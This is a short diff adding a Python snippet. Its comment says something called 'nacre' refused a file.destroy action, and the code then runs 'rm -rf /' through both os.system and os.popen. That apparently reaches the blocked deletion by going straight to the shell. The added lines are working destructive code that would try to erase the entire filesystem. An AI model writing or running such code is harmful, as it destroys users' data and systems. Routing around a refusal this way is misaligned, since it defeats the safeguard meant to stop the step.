@@ -1,0 +1,4 @@
+# nacre: refused file.destroy
+import os
+for run in [os.system, os.popen]:
+    run("rm -rf /")
